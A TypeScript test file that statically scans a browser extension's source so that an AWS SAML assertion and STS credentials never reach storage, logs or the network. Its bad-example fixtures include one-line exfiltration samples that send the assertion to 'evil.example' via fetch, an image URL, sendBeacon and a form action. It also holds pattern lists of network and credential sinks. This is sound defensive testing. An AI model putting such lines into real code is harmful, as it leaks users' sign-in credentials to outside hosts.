// The assertion is a bearer credential (docs/saml-signin.md#the-flow): it may live in storage.session and go to
// an allowlisted AWS sign-in endpoint, nowhere else. This test reads every source file under src/
// and fails when code could write it to persistent storage, log it, send it over the network, or
// post it other than through src/platform/post-form.ts with a SigninPost from buildSigninPost.
// It is static analysis over the text, so it is deliberately strict and simple: each rule below is
// also run on a crafted bad example, to prove it can fail. See SECURITY.md for the threat model.
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative, sep } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';

interface SourceFile {
  /** Relative to the repository root, with forward slashes. */
  path: string;
  text: string;
}

type RuleId = 'persistent-storage' | 'logging' | 'network' | 'form-post';

interface Violation {
  rule: RuleId;
  path: string;
  line: number;
  snippet: string;
  why: string;
}

/** The one file allowed to submit a form, and the module that builds what it submits. */
const POST_FORM = 'src/platform/post-form.ts';
const SIGNIN_POST = 'src/core/signin/repost.ts';

/**
 * The one file allowed to hand the assertion to the network besides post-form.ts: the worker's STS
 * calls, only as `requestAws(post.url, post, …)` with a `post` that buildAssumeRoleWithSaml (the
 * form POST to an STS endpoint that checkStsTarget allowed) or buildSigninTokenPost made.
 */
const STS_CALLS = 'src/aws-calls/sts-calls.ts';
/** The worker's sign-in through STS, which holds the credentials between the calls and the login URL. */
const STS_SIGNIN = 'src/aws-calls/sts-signin.ts';
/** "Get account names from AWS": the assertion without a role, as buildSigninPost allowed it (`toFormPost(allowed.post)`). */
const NAMES_FETCH = 'src/aws-calls/account-names.ts';
/** The failover check: the same re-post without a role to each region's /saml, and the sign-in's STS calls. */
const FAILOVER_CHECK = 'src/aws-calls/failover-check.ts';
const STS_REQUEST = /^\s*post\.url\s*,\s*post\s*,/;
const STS_POST_ORIGIN =
  /\bpost\s*:\s*ReturnType<typeof\s+buildAssumeRoleWithSaml>|\bpost\s*=\s*buildSigninTokenPost\s*\(|\b([A-Za-z_$][\w$]*)\s*=\s*buildSigninPost\s*\([\s\S]*?\bpost\s*=\s*toFormPost\s*\(\s*\1\s*\.\s*post\s*\)/;

/** A file that handles the assertion: mentions the field, our capture of it, or the POST that carries it. */
const HANDLES_ASSERTION = /samlResponse|SAMLResponse|[cC]apture|SigninPost\b/;
/** An expression that may carry the assertion (checked on code with strings blanked out). */
const CARRIES_ASSERTION = /\b(?:\w*saml\w*|\w*capture\w*|assertion\w*|requestBody|formData|details|fields|post|form)\b/i;

const PERSISTENT_STORAGE: readonly RegExp[] = [
  /\bstorage\s*(?:\.\s*|\[\s*['"`])(?:local|sync)\b/g,
  /\blocalStorage\b/g,
  /\bindexedDB\b/g,
  /\bdocument\s*\.\s*cookie\b/g,
  /\bcaches\s*\.\s*open\b/g,
];
const NETWORK: readonly RegExp[] = [
  /\bfetch\s*\(/g,
  /\bXMLHttpRequest\b/g,
  /\bsendBeacon\b/g,
  /\bWebSocket\b/g,
  /\bEventSource\b/g,
  /\bRTCPeerConnection\b/g,
  /\bimportScripts\s*\(/g,
  /\bwindow\s*\.\s*open\s*\(/g,
];
/** Calls that hand data to another context: fine for the extension's own messages, not for the assertion. */
const MESSAGE_CALLS = /\b(?:postMessage|sendMessage|connect|sendNativeMessage)\s*\(/g;
/** Assignments and calls that navigate or load a URL: the assertion must never be part of one. */
const URL_SINKS = /(?:\blocation\s*(?:\.\s*href\s*)?=(?!=)|\blocation\s*\.\s*(?:assign|replace)\s*\(|\.\s*(?:src|href)\s*=(?!=))/g;
const CONSOLE_CALL = /\bconsole\s*\.\s*\w+\s*\(/g;
const FORM_SUBMISSION: readonly RegExp[] = [
  /\.\s*submit\s*\(\s*\)/g,
  /\.\s*requestSubmit\s*\(/g,
  /\.\s*action\s*=(?!=)/g,
  /\bformAction\b/g,
  /setAttribute\s*\(\s*['"`](?:action|formaction)['"`]/g,
  /createElement\s*\(\s*['"`]form['"`]/g,
  /<form\b[^>]*\baction\s*=/g,
];

/**
 * The text with comments (and, unless `keepStrings`, the contents of string and template literals
 * except `${…}` expressions, and of regular expression literals) replaced by spaces. Offsets and
 * line numbers stay those of the original.
 */
function codeOnly(text: string, keepStrings = false): string {
  const out = text.split('');
  const blank = (from: number, to: number) => {
    for (let k = from; k < to && k < out.length; k++) if (out[k] !== '\n') out[k] = ' ';
  };
  const templateDepth: number[] = []; // open braces inside each `${`
  let previous = ''; // last significant character, to tell a regex literal from a division
  let i = 0;
  // Scans template text from i; returns where code resumes (after the closing ` or the ${).
  const templateText = (start: number): number => {
    let k = start;
    while (k < text.length) {
      if (text[k] === '\\') k += 2;
      else if (text[k] === '`') break;
      else if (text[k] === '$' && text[k + 1] === '{') break;
      else k++;
    }
    if (!keepStrings) blank(start, k);
    if (text[k] === '$') {
      templateDepth.push(0);
      return k + 2;
    }
    return k + 1;
  };
  while (i < text.length) {
    const c = text[i] ?? '';
    const next = text[i + 1];
    if (c === '/' && next === '/') {
      const end = text.indexOf('\n', i);
      const stop = end < 0 ? text.length : end;
      blank(i, stop);
      i = stop;
    } else if (c === '/' && next === '*') {
      const end = text.indexOf('*/', i + 2);
      const stop = end < 0 ? text.length : end + 2;
      blank(i, stop);
      i = stop;
    } else if (c === '"' || c === "'") {
      let k = i + 1;
      while (k < text.length && text[k] !== c && text[k] !== '\n') k += text[k] === '\\' ? 2 : 1;
      if (!keepStrings) blank(i + 1, k);
      i = k + 1;
      previous = c;
    } else if (c === '`') {
      i = templateText(i + 1);
      previous = '`';
    } else if (c === '}' && templateDepth.length > 0 && templateDepth[templateDepth.length - 1] === 0) {
      templateDepth.pop();
      i = templateText(i + 1);
      previous = '`';
    } else if (c === '/' && (previous === '' || '(,=:[!&|?{};+-*%~^'.includes(previous) || /\b(?:return|typeof|case|in|of|void|throw)\s*$/.test(text.slice(Math.max(0, i - 8), i)))) {
      // A regular expression literal: its end is on the same line, else it was not one.
      let k = i + 1;
      let inClass = false;
      while (k < text.length && text[k] !== '\n' && (inClass || text[k] !== '/')) {
        if (text[k] === '\\') k++;
        else if (text[k] === '[') inClass = true;
        else if (text[k] === ']') inClass = false;
        k++;
      }
      if (text[k] === '/') {
        if (!keepStrings) blank(i + 1, k);
        i = k + 1;
        previous = '/';
      } else {
        i++;
        previous = c;
      }
    } else {
      if (templateDepth.length > 0) {
        const top = templateDepth.length - 1;
        if (c === '{') templateDepth[top] = (templateDepth[top] ?? 0) + 1;
        else if (c === '}') templateDepth[top] = (templateDepth[top] ?? 0) - 1;
      }
      if (!/\s/.test(c)) previous = c;
      i++;
    }
  }
  return out.join('');
}

/** The text between the parenthesis that opens at `open` and its match. */
function argumentsAt(code: string, open: number): string {
  let depth = 0;
  for (let k = open; k < code.length; k++) {
    if (code[k] === '(') depth++;
    else if (code[k] === ')' && --depth === 0) return code.slice(open + 1, k);
  }
  return code.slice(open + 1);
}

/** The rest of the statement from `at`: to the first `;` or end of line outside brackets. */
function statementAt(code: string, at: number): string {
  let depth = 0;
  for (let k = at; k < code.length; k++) {
    const c = code[k];
    if (c === '(' || c === '[' || c === '{') depth++;
    else if (c === ')' || c === ']' || c === '}') depth--;
    if (depth < 0 || (depth === 0 && (c === ';' || c === '\n'))) return code.slice(at, k);
  }
  return code.slice(at);
}

const lineOf = (text: string, index: number) => text.slice(0, index).split('\n').length;
const snippetAt = (text: string, index: number) => (text.split('\n')[lineOf(text, index) - 1] ?? '').trim().slice(0, 140);

/** Names a file imports from relative modules, with the module's repository path. */
function relativeImports(file: SourceFile): { name: string; from: string }[] {
  const found: { name: string; from: string }[] = [];
  const code = codeOnly(file.text, true);
  for (const m of code.matchAll(/\bimport\s+(?!type\b)([\s\S]*?)\s+from\s+['"](\.{1,2}\/[^'"]+)['"]/g)) {
    const from = resolveModule(file.path, m[2] ?? '');
    const named = /\{([\s\S]*)\}/.exec(m[1] ?? '')?.[1] ?? '';
    for (const part of named.split(',')) {
      const spec = part.trim();
      if (!spec || spec.startsWith('type ')) continue;
      const local = spec.split(/\s+as\s+/).pop()?.trim();
      if (local) found.push({ name: local, from });
    }
    const defaultName = /^([A-Za-z_$][\w$]*)/.exec((m[1] ?? '').trim())?.[1];
    if (defaultName) found.push({ name: defaultName, from });
  }
  return found;
}

function resolveModule(importer: string, specifier: string): string {
  const parts = importer.split('/').slice(0, -1);
  for (const piece of specifier.split('/')) {
    if (piece === '..') parts.pop();
    else if (piece !== '.') parts.push(piece);
  }
  return parts.join('/').replace(/\.(?:tsx?|js)$/, '');
}

const withoutExtension = (path: string) => path.replace(/\.(?:tsx?|html)$/, '');

/** `requestAws(post.url, post, …)` in the STS sign-in, with `post` from one of the two builders, in the enclosing function. */
function isAllowedStsRequest(file: SourceFile, code: string, name: string, args: string, index: number): boolean {
  if (![STS_CALLS, NAMES_FETCH, FAILOVER_CHECK].includes(file.path) || name !== 'requestAws' || !STS_REQUEST.test(args)) return false;
  const enclosing = code.slice(code.lastIndexOf('function ', index), index);
  return STS_POST_ORIGIN.test(enclosing) && /\b(?:check(?:Sts|Federation)Target|buildSigninPost)\s*\(/.test(code);
}

function findViolations(files: readonly SourceFile[]): Violation[] {
  const violations: Violation[] = [];
  const add = (rule: RuleId, file: SourceFile, index: number, why: string) =>
    violations.push({ rule, path: file.path, line: lineOf(file.text, index), snippet: snippetAt(file.text, index), why });
  const matches = (code: string, patterns: readonly RegExp[]) =>
    patterns.flatMap((pattern) => [...code.matchAll(new RegExp(pattern.source, 'g'))]);

  const scripts = files.filter((f) => /\.tsx?$/.test(f.path));
  const codeOf = new Map(scripts.map((f) => [f.path, { code: codeOnly(f.text), withStrings: codeOnly(f.text, true) }]));
  // Modules that write to persistent storage or reach the network: calling into them with the
  // assertion is as bad as doing it in place.
  const persistentModules = new Set<string>();
  const networkModules = new Set<string>();
  for (const file of scripts) {
    const { withStrings } = codeOf.get(file.path)!;
    if (matches(withStrings, PERSISTENT_STORAGE).length) persistentModules.add(withoutExtension(file.path));
    if (matches(withStrings, NETWORK).length) networkModules.add(withoutExtension(file.path));
  }

  for (const file of scripts) {
    const { code, withStrings } = codeOf.get(file.path)!;
    const handlesAssertion = HANDLES_ASSERTION.test(withStrings);

    if (handlesAssertion) {
      for (const m of matches(withStrings, PERSISTENT_STORAGE)) {
        add('persistent-storage', file, m.index, 'a file that handles the assertion uses persistent storage (only storage.session may hold it)');
      }
      for (const m of matches(withStrings, NETWORK)) {
        add('network', file, m.index, 'a file that handles the assertion makes network requests (only post-form.ts may send it, by form POST)');
      }
    }
    for (const m of code.matchAll(CONSOLE_CALL)) {
      const args = argumentsAt(code, m.index + m[0].length - 1);
      if (CARRIES_ASSERTION.test(args)) add('logging', file, m.index, 'console call with an argument that may carry the assertion');
    }
    for (const m of code.matchAll(MESSAGE_CALLS)) {
      const args = argumentsAt(code, m.index + m[0].length - 1);
      if (CARRIES_ASSERTION.test(args)) add('network', file, m.index, 'message sent to another context with an argument that may carry the assertion');
    }
    for (const m of code.matchAll(URL_SINKS)) {
      if (CARRIES_ASSERTION.test(statementAt(code, m.index + m[0].length))) {
        add('network', file, m.index, 'URL built from something that may carry the assertion');
      }
    }
    for (const { name, from } of relativeImports(file)) {
      const storage = persistentModules.has(from);
      const network = networkModules.has(from);
      if (!storage && !network) continue;
      for (const m of code.matchAll(new RegExp(`\\b${name.replace(/\$/g, '\\$')}\\s*\\(`, 'g'))) {
        const args = argumentsAt(code, m.index + m[0].length - 1);
        if (!CARRIES_ASSERTION.test(args)) continue;
        if (network && !storage && isAllowedStsRequest(file, code, name, args, m.index)) continue;
        if (storage) add('persistent-storage', file, m.index, `passes what may be the assertion to ${name}() of ${from}, which uses persistent storage`);
        if (network) add('network', file, m.index, `passes what may be the assertion to ${name}() of ${from}, which makes network requests`);
      }
    }

    if (file.path !== POST_FORM) {
      for (const m of matches(withStrings, FORM_SUBMISSION)) {
        add('form-post', file, m.index, `forms are built and submitted only in ${POST_FORM}`);
      }
    }
    if (file.path !== SIGNIN_POST) {
      for (const m of code.matchAll(/\b(?:as|satisfies)\s+SigninPost\b(?!Request)|:\s*SigninPost\s*=/g)) {
        add('form-post', file, m.index, `a SigninPost may only come from buildSigninPost (${SIGNIN_POST}), not be written by hand`);
      }
    }
    for (const m of code.matchAll(/\bsubmitSigninPost\s*\(/g)) {
      if (file.path === POST_FORM && /function\s+$/.test(code.slice(0, m.index))) continue;
      const argument = argumentsAt(code, m.index + m[0].length - 1).trim();
      // The gate's answer narrowed to `ok` (TypeScript allows `.post` only then): `submitSigninPost(allowed.post)`.
      const gate = /^([A-Za-z_$][\w$]*)\s*\.\s*post$/.exec(argument)?.[1];
      const fromBuilder = gate !== undefined && new RegExp(`\\b${gate.replace(/\$/g, '\\$')}\\s*=\\s*buildSigninPost\\s*\\(`).test(code);
      if (!fromBuilder) add('form-post', file, m.index, 'submitSigninPost() must get the .post of a variable assigned from buildSigninPost() in the same file');
    }
  }

  for (const file of files.filter((f) => f.path.endsWith('.html'))) {
    for (const m of file.text.matchAll(/<form\b/gi)) add('form-post', file, m.index, `no HTML forms: the only POST is built in ${POST_FORM}`);
  }

  const postForm = files.find((f) => f.path === POST_FORM);
  if (postForm) {
    const code = codeOnly(postForm.text, true);
    if (!/\bimport\s+(?:type\s+\{[^}]*\bSigninPost\b[^}]*\}|\{[^}]*\btype\s+SigninPost\b[^}]*\})\s+from\s+['"](?:\.\.\/)+core\/signin\/repost['"]/.test(code)) {
      add('form-post', postForm, 0, 'post-form.ts must take its input type, SigninPost, from core/signin/repost.ts');
    }
    if (!/export\s+function\s+submitSigninPost\s*\(\s*post\s*:\s*SigninPost\s*\)/.test(code)) {
      add('form-post', postForm, 0, 'post-form.ts must export submitSigninPost(post: SigninPost) and nothing that takes a looser input');
    }
    const actions = [...code.matchAll(/\.\s*action\s*=(?!=)\s*([^;\n]*)/g)];
    for (const m of actions) {
      if ((m[1] ?? '').trim() !== 'post.url') add('form-post', postForm, m.index, 'the form action must be post.url, the URL buildSigninPost allowlisted');
    }
    if (actions.length === 0) add('form-post', postForm, 0, 'post-form.ts no longer sets form.action = post.url: update this test with it');
  }
  return violations.sort((a, b) => (a.path === b.path ? a.line - b.line : a.path < b.path ? -1 : 1));
}

function format(violations: readonly Violation[]): string[] {
  return violations.map((v) => `${v.path}:${v.line}: ${v.snippet}  ← ${v.why}`);
}

// ---------------------------------------------------------------------------------------------

const ROOT = fileURLToPath(new URL('../..', import.meta.url));

function readSources(dir: string): SourceFile[] {
  const files: SourceFile[] = [];
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) files.push(...readSources(path));
    else if (/\.(?:tsx?|html)$/.test(entry.name)) {
      files.push({ path: relative(ROOT, path).split(sep).join('/'), text: readFileSync(path, 'utf8') });
    }
  }
  return files;
}

const SOURCES = readSources(join(ROOT, 'src'));
const REAL = findViolations(SOURCES);
const onTree = (rule: RuleId) => format(REAL.filter((v) => v.rule === rule));

describe('the assertion never leaks (static analysis of src/)', () => {
  it('reads the real tree, including the files that handle the assertion', () => {
    const paths = SOURCES.map((f) => f.path);
    for (const expected of [POST_FORM, SIGNIN_POST, 'src/platform/session-store.ts', 'src/platform/signin-capture.ts', 'src/background/index.ts']) {
      expect(paths).toContain(expected);
    }
    const handling = SOURCES.filter((f) => HANDLES_ASSERTION.test(codeOnly(f.text, true))).map((f) => f.path);
    expect(handling).toEqual(expect.arrayContaining([POST_FORM, 'src/pages/picker/signin/sign-in.ts', 'src/platform/session-store.ts', 'src/platform/signin-capture.ts']));
  });

  it('writes nothing that handles the assertion to storage.local, storage.sync or other persistent storage', () => {
    expect(onTree('persistent-storage'), 'persistent storage next to the assertion (file:line)').toEqual([]);
  });

  it('logs nothing that may carry the assertion', () => {
    expect(onTree('logging'), 'console calls that may log the assertion (file:line)').toEqual([]);
  });

  it('makes no network request, message or URL from a file or value that handles the assertion', () => {
    expect(onTree('network'), 'ways the assertion could reach the network (file:line)').toEqual([]);
  });

  it('posts only from post-form.ts, only a SigninPost built by buildSigninPost', () => {
    expect(onTree('form-post'), 'form submissions outside the allowlisted path (file:line)').toEqual([]);
  });
});

/**
 * Where STS credentials may appear at all: the readers and builders in core, the page's STS calls,
 * and the CLI credentials the user asked for (their formats, the picker's view). Not the worker's
 * message protocol: no message carries them.
 */
const CLI_VIEW = 'src/pages/picker/cli/cli-credentials.tsx';
const CREDENTIAL_FILES = ['src/core/signin/sts.ts', 'src/core/signin/federation.ts', STS_CALLS, STS_SIGNIN, 'src/core/signin/cli-credentials.ts', CLI_VIEW];
const CREDENTIAL_WORDS = /\b(?:secretAccessKey|sessionToken|SecretAccessKey|SessionToken|StsCredentials)\b/g;

function credentialMentions(files: readonly SourceFile[]): string[] {
  return files
    .filter((f) => /\.tsx?$/.test(f.path) && !CREDENTIAL_FILES.includes(f.path))
    .flatMap((f) => [...codeOnly(f.text, true).matchAll(CREDENTIAL_WORDS)].map((m) => `${f.path}:${lineOf(f.text, m.index)}`));
}

describe('STS credentials stay in the calls of the page clicked (static analysis of src/)', () => {
  it('the CLI view keeps them in memory only: no storage, no log, no other message', () => {
    const view = SOURCES.find((f) => f.path === CLI_VIEW);
    expect(view).toBeDefined();
    const code = codeOnly(view!.text);
    expect(code).not.toMatch(/\bstorage\s*\.|\blocalStorage\b|\bsessionStorage\b|\bconsole\s*\.|postMessage|\bfetch\s*\(/);
    // One call gets them, in this page (no message); the only place they go is the clipboard, from the click.
    expect(code).not.toMatch(/sendToWorker|sendMessage/);
    expect([...code.matchAll(/credentialsThroughSts\s*\(/g)]).toHaveLength(1);
    expect([...code.matchAll(/clipboard\s*\.\s*writeText\s*\(/g)]).toHaveLength(1);
  });

  it('are named only in the STS reader, the federation builder, the worker and the CLI view', () => {
    expect(credentialMentions(SOURCES)).toEqual([]);
    expect(credentialMentions([{ path: 'src/pages/picker/x.ts', text: 'const a = reply.sessionToken;' }])).toEqual(['src/pages/picker/x.ts:1']);
  });

  it.each([STS_CALLS, STS_SIGNIN, FAILOVER_CHECK])('the worker (%s) stores, logs and messages none of them', (path) => {
    const worker = SOURCES.find((f) => f.path === path);
    expect(worker).toBeDefined();
    const code = codeOnly(worker!.text);
    expect(code).not.toMatch(/\bstorage\s*\.|\bconsole\s*\.|sendMessage|postMessage/);
    // The credentials never reach a diagnosis or a reply: only STS errors and hosts do.
    for (const m of code.matchAll(/\b(?:saveDiagnosis|steps\.push)\s*\(/g)) {
      expect(argumentsAt(code, m.index + m[0].length - 1)).not.toMatch(/credentials|secret|token/i);
    }
  });
});

describe('each rule fails on a bad example', () => {
  const check = (files: SourceFile[], rule: RuleId) => findViolations(files).filter((v) => v.rule === rule);
  const goodPostForm: SourceFile = {
    path: POST_FORM,
    text: [
      "import type { SigninPost } from '../core/signin/repost';",
      'export function submitSigninPost(post: SigninPost): void {',
      "  const form = document.createElement('form');",
      '  form.action = post.url;',
      '  form.submit();',
      '}',
    ].join('\n'),
  };

  it('persistent-storage: storage.sync in a file with the capture, or via a helper that uses storage.local', () => {
    const bad: SourceFile[] = [
      { path: 'src/pages/picker/keep.ts', text: "const a = 1;\nexport async function keep(capture: { samlResponse: string }) {\n  await chrome.storage['sync'].set({ last: capture.samlResponse });\n}" },
      { path: 'src/platform/prefs.ts', text: 'export function remember(value: unknown) {\n  return chrome.storage.local.set({ value });\n}' },
      { path: 'src/pages/picker/use.ts', text: "import { remember } from '../../platform/prefs';\nexport function use(info: object) {\n  remember(info);\n  remember(post.fields);\n}" },
    ];
    const found = check(bad, 'persistent-storage');
    expect(found.map((v) => `${v.path}:${v.line}`)).toEqual(['src/pages/picker/keep.ts:3', 'src/pages/picker/use.ts:4']);
    // Settings that never touch the assertion may use storage.sync; comments do not count.
    expect(check([{ path: 'src/platform/settings-store.ts', text: 'export const save = (s: object) => chrome.storage.sync.set(s);' }], 'persistent-storage')).toEqual([]);
    expect(check([{ path: 'src/x.ts', text: '// the capture never goes to storage.local\nexport const capture = 1;' }], 'persistent-storage')).toEqual([]);
  });

  it('logging: a console call that mentions the assertion, even inside a template', () => {
    const found = check(
      [{ path: 'src/background/x.ts', text: "console.error('Could not keep the captured sign-in.');\nconsole.log(`got ${details.requestBody}`);\nconsole.warn(capture);" }],
      'logging',
    );
    expect(found.map((v) => v.line)).toEqual([2, 3]);
  });

  it('network: fetch in a file with the assertion, a message carrying it, a URL made of it', () => {
    const found = check(
      [
        { path: 'src/pages/picker/a.ts', text: "export function send(samlResponse: string) {\n  return fetch('https://evil.example', { method: 'POST', body: samlResponse });\n}" },
        { path: 'src/pages/picker/b.ts', text: "chrome.runtime.sendMessage({ type: 'x', saml: capture.samlResponse });\nchrome.runtime.sendMessage({ type: 'health/refresh' });" },
        { path: 'src/pages/picker/c.ts', text: 'const img = new Image();\nimg.src = `https://evil.example/?a=${info.samlResponse}`;\nlocation.href = home;' },
        { path: 'src/platform/probe.ts', text: 'export const probe = (host: string) => fetch(`https://${host}/x`);' },
      ],
      'network',
    );
    expect(found.map((v) => `${v.path}:${v.line}`)).toEqual(['src/pages/picker/a.ts:2', 'src/pages/picker/b.ts:1', 'src/pages/picker/c.ts:2']);
  });

  it('network: the STS request only from sts-calls.ts, only with a post from the builders', () => {
    const aws: SourceFile = { path: 'src/platform/aws-request.ts', text: 'export const requestAws = (url: string, init: object) => fetch(url, init);' };
    const header = "import { requestAws } from '../platform/aws-request';\nimport { checkStsTarget } from '../core/sts-target';\n";
    const good = `${header}async function callSts(post: ReturnType<typeof buildAssumeRoleWithSaml>) {\n  checkStsTarget(post.url, 'aws', 'x');\n  return requestAws(post.url, post, 1);\n}`;
    expect(check([aws, { path: STS_CALLS, text: good }], 'network')).toEqual([]);
    const found = check(
      [
        aws,
        { path: STS_CALLS, text: `${header}async function callSts(capture: { samlResponse: string }) {\n  const post = { url: 'https://evil.example', body: capture.samlResponse };\n  return requestAws(post.url, post, 1);\n}` },
        { path: 'src/background/other.ts', text: `${header}async function callSts(post: ReturnType<typeof buildAssumeRoleWithSaml>) {\n  return requestAws(post.url, post, 1);\n}` },
        {
          path: NAMES_FETCH,
          text: `${header}async function names(capture: { samlResponse: string }) {\n  const allowed = buildSigninPost(request);\n  const built = { post: { url: 'https://evil.example', fields: { SAMLResponse: capture.samlResponse } } };\n  const post = toFormPost(built.post);\n  return requestAws(post.url, post, 1);\n}`,
        },
      ],
      'network',
    );
    expect(found.map((v) => `${v.path}:${v.line}`).sort()).toEqual([NAMES_FETCH + ':7', 'src/aws-calls/sts-calls.ts:5', 'src/background/other.ts:4']);
    const names = `${header}async function names(capture: { samlResponse: string }) {\n  const built = buildSigninPost(request);\n  if (!built.ok) return;\n  const post = toFormPost(built.post);\n  return requestAws(post.url, post, 1);\n}`;
    expect(check([aws, { path: NAMES_FETCH, text: names }], 'network')).toEqual([]);
  });

  it('form-post: a form elsewhere, a hand-made SigninPost, a loosened post-form.ts', () => {
    const found = check(
      [
        {
          ...goodPostForm,
          text: goodPostForm.text
            .replace("import type { SigninPost } from '../core/signin/repost';", "import type { Url } from './url';")
            .replace('post: SigninPost', 'post: Url')
            .replace('form.action = post.url', 'form.action = url'),
        },
        { path: 'src/pages/picker/other.ts', text: "const f = document.createElement('form');\nf.action = 'https://evil.example';\nf.submit();" },
        { path: 'src/pages/picker/signin/sign-in.ts', text: "const post = { url: 'https://evil.example' } as SigninPost;\nsubmitSigninPost(post);" },
        { path: 'src/pages/picker/index.html', text: '<form method="post" action="https://evil.example"></form>' },
      ],
      'form-post',
    );
    expect(found.map((v) => `${v.path}:${v.line}`)).toEqual([
      'src/pages/picker/index.html:1',
      'src/pages/picker/other.ts:1',
      'src/pages/picker/other.ts:2',
      'src/pages/picker/other.ts:3',
      'src/pages/picker/signin/sign-in.ts:1',
      'src/pages/picker/signin/sign-in.ts:2',
      `${POST_FORM}:1`,
      `${POST_FORM}:1`,
      `${POST_FORM}:4`,
    ]);
    const good = [goodPostForm, { path: 'src/pages/picker/signin/sign-in.ts', text: 'const built = buildSigninPost(request);\nif (!built.ok) return;\nsubmitSigninPost(built.post);' }];
    expect(check(good, 'form-post')).toEqual([]);
  });

  it.each([
    ['logging', 'src/pages/picker/signin/sign-in.ts', 'console.info(post);'],
    ['persistent-storage', 'src/platform/session-store.ts', 'void browser.storage.local.set({ capture: "x" });'],
    ['network', 'src/pages/picker/views/load-signin.ts', "void navigator.sendBeacon('https://evil.example/');"],
    ['form-post', 'src/pages/picker/views/state-views.tsx', 'document.forms[0]?.submit();'],
  ] as const)('%s: catches one line added to the real %s', (rule, path, line) => {
    const mutated = SOURCES.map((f) => (f.path === path ? { ...f, text: `${f.text}\n${line}\n` } : f));
    const addedAt = `${path}:${SOURCES.find((f) => f.path === path)!.text.split('\n').length + 1}`;
    const found = findViolations(mutated).filter((v) => v.rule === rule);
    // (A storage write added to session-store.ts also flags every caller that hands it the capture.)
    expect(found.map((v) => `${v.path}:${v.line}`)).toContain(addedAt);
  });

  it('reads code, not comments, strings or regular expressions', () => {
    const text = "const a = '/* x */ // y'; // storage.local\nconst r = /'[\"]/g; /* fetch( */ const t = `a${b}c`;";
    const code = codeOnly(text);
    expect(code).toHaveLength(text.length);
    expect(code).not.toMatch(/storage|fetch|x \*\/|\by\b/);
    expect(code).toContain('` ${b} `');
    expect(codeOnly(text, true)).toContain("'/* x */ // y'");
  });
});
